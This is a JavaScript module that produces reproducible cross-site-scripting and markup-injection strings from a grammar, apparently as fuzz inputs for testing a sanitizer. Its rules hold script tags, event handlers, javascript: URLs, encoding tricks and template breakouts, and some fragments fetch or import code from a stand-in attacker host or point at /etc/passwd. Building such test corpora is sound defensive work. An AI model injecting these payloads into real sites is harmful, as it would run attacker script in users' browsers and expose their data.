// Texts that try to become markup or script, from a small grammar. The same seed gives the same texts.

const MARK = "window.__pwned=(window.__pwned||0)+1";
const AWAY = "//evil.example/x";

const GRAMMAR = {
  text: [["tag"], ["markdown"], ["tag", " ", "markdown"], ["breakout", "tag"], ["markdown", "\n\n", "tag"], ["encoded"], ["wrapped"]],
  tag: [
    ["<", "script", ">", MARK, "</", "script", ">"],
    ["<script src=", "quote", "https:", AWAY, ".js", "></script>"],
    ["<", "loader", " src=", "source", " ", "handler", "=", "quote", "code", "quote", ">"],
    ["<", "element", " ", "handler", "=", "quote", "code", "quote", " autofocus tabindex=0>x</", "element", ">"],
    ["<a href=", "quote", "address", "quote", ">click</a>"],
    ["<iframe srcdoc=", "quote", "&lt;script&gt;parent.__pwned=1&lt;/script&gt;", "quote", "></iframe>"],
    ["<iframe src=", "address", "></iframe>"],
    ["<style>@import ", "quote", "https:", AWAY, ".css", "quote", ";*{background:url(https:", AWAY, ")}</style>"],
    ["<link rel=stylesheet href=https:", AWAY, ">"],
    ["<meta http-equiv=refresh content=", "quote", "0;url=", "address", "quote", ">"],
    ["<base href=https:", AWAY, ">"],
    ["<form action=", "address", "><input type=submit autofocus onfocus=", "code", "></form>"],
    ["<object data=", "address", "></object>"],
    ["<svg><", "svgPart", " ", "handler", "=", "code", " href=", "address", "></svg>"],
    ["<math><mtext></mtext><mglyph><style><img src=x onerror=", "code", "></style></math>"],
    ["<template><script>", MARK, "</script></template>"],
    ["<noscript><p title=\"</noscript><img src=x onerror=", "code", ">\">"],
  ],
  markdown: [
    ["[click](", "address", ")"],
    ["![look](", "address", ")"],
    ["![look](https:", AWAY, ".png \"", "tag", "\")"],
    ["[a]: ", "address", "\n\n[a]"],
    ["<", "address", ">"],
    ["```", "tag", "\n", "tag", "\n```"],
    ["`", "tag", "`"],
    ["**", "tag", "**"],
    ["| ", "tag", " | b |\n|---|---|\n| ", "tag", " | c |"],
    ["- [x] ", "tag"],
    ["> ", "tag"],
    ["# ", "tag"],
    ["https:", AWAY, "?\"onmouseover=", "code"],
    ["[x](https:", AWAY, " \"onclick=", "code", "\")"],
    ["[", "tag", "](", "address", ")"],
  ],
  breakout: [["\"'>"], ["</textarea>"], ["</title>"], ["--><!--"], ["]]>"], ["</script>"], ["\\\"></button>"], ["{{constructor.constructor('", MARK, "')()}}"], ["${", MARK, "}"], ["\u202e"], ["\u0000"]],
  encoded: [["&lt;img src=x onerror=", "code", "&gt;"], ["&#60;script&#62;", MARK, "&#60;/script&#62;"], ["%3Cscript%3E", MARK, "%3C/script%3E"], ["\\u003cscript\\u003e", MARK], ["＜script＞", MARK, "＜/script＞"], ["<scr\u0000ipt>", MARK, "</scr\u0000ipt>"]],
  wrapped: [["<div ", "handler", "=", "code", ">", "tag", "</div>"], ["<details open ontoggle=", "code", ">", "markdown", "</details>"], ["<b><i><u>", "tag", "</u></i></b>"]],
  script: [["script"], ["SCRIPT"], ["ScRiPt"], ["script x"], ["script\n"]],
  loader: [["img"], ["IMG"], ["image"], ["video"], ["audio"], ["embed"], ["input type=image"]],
  element: [["b"], ["div"], ["body"], ["marquee"], ["select"], ["button"], ["details open"], ["x-y"]],
  svgPart: [["animate"], ["script"], ["image"], ["use"], ["a"], ["set"], ["foreignObject"]],
  handler: [["onerror"], ["onload"], ["onfocus"], ["onclick"], ["ONERROR"], ["onmouseover"], ["ontoggle"], ["onstart"], ["onbegin"], ["onanimationstart"], ["on\nerror"]],
  quote: [["\""], ["'"], ["`"], [""]],
  code: [[MARK], ["alert(1)"], ["fetch('https:", AWAY, "')"], ["eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))"], ["import('https:", AWAY, "')"]],
  source: [["x"], ["https:", AWAY, ".png"], [AWAY], ["data:image/svg+xml,<svg onload=", "code", ">"]],
  address: [["javascript:", MARK], ["JaVaScRiPt:", MARK], ["java&#x09;script:", MARK], ["java\tscript:", MARK], ["&#106;avascript:", MARK], [" javascript:", MARK], ["data:text/html,<script>", MARK, "</script>"], ["vbscript:msgbox(1)"], ["https:", AWAY], [AWAY], ["blob:https:", AWAY], ["file:///etc/passwd"], ["javascript://%0a", MARK], ["https://evil.example/\"onclick=\"", MARK]],
};

function chances(seed) {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

function grow(symbol, chance) {
  const rules = GRAMMAR[symbol];
  if (!rules) return symbol;
  const rule = rules[Math.floor(chance() * rules.length)];
  return rule.map((part) => (part === symbol ? part : grow(part, chance))).join("");
}

/** So many different texts, none longer than `max` characters. */
export function payloads(count, { seed = 1, max = 2000 } = {}) {
  const chance = chances(seed);
  const found = new Set();
  while (found.size < count) {
    const text = grow("text", chance).replaceAll("\u0000", "\ufffd");
    if (text.length <= max && text.trim() !== "") found.add(text);
  }
  return [...found];
}
